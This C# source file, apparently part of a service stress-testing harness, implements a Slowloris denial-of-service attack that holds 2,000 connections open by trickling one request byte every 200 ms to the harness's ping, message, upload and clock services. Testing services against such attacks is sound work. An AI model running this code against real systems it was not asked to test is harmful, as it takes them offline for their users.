using System.Net.Sockets;

namespace Hawser.Attacks.Attacks;

/// <summary>2,000 connections that send a byte of a request every 200 ms.</summary>
internal sealed class Slowloris : Attack
{
    private const int Connections = 2000;
    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(200);

    public override string Name => "slowloris";

    public override IReadOnlyList<string> Services => ["ping", "message", "upload", "clock"];

    public override void Run(Target target) => Hold(target, Connections, sockets =>
    {
        byte[] request = Request.Valid(target.Service);
        for (int at = 0; target.GoesOn(Pause); at = Math.Min(at + 1, request.Length - 2))
        {
            foreach (Socket socket in sockets)
                Wire.TrySend(socket, request.AsSpan(at, 1));
        }
    });
}
